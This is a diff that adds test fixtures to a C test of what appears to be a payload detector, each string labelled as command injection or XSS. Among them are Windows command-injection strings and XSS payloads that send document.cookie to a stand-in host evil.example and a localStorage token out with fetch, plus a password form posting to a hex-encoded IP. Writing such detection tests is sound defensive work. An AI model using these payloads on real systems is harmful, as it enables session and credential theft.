@@ -459,6 +459,16 @@ static void test_merge16_review(void **st)
 		{"cmd /c whoami", PAYLOAD_CMDI},
 		{"cmd /c \"net user\"", PAYLOAD_CMDI},
 		{"cmd /c \"start calc\"", PAYLOAD_CMDI},
+		/* x3 (session 19, rev8 L5 E13 E14 E9): a bracketed walk to the
+		 * cookie, a Document property clobbered by name, a hex-part
+		 * IP, an edge-on frame */
+		{"new Image().src='//evil.example/?'+window['document']['cookie']", PAYLOAD_XSS},
+		{"fetch('//e/?'+window['localStorage']['token'])", PAYLOAD_XSS},
+		{"<img name=cookie>", PAYLOAD_XSS},
+		{"<form action=\"http://0xCB.0.113.9/x\"><input type=password name=p></form>", PAYLOAD_XSS},
+		{"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		 "style=\"transform:rotateY(90deg)\"></iframe>", PAYLOAD_XSS},
+		{"<input type=\"checkbox\" name=\"cookie\" id=\"cookie\">", N},
 	};
 
 	(void)st;
